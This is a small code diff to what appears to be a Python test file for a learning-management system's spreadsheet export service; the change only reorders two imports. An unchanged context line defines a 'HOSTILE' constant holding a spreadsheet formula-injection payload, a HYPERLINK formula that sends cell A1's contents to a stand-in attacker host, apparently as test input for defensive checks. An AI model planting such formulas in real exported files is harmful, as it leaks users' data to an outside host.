@@ -5,8 +5,8 @@ import zipfile
 
 import openpyxl
 
-from lms.services import exports
 from lms.reporting.dashboard import Cell, Table
+from lms.services import exports
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
 
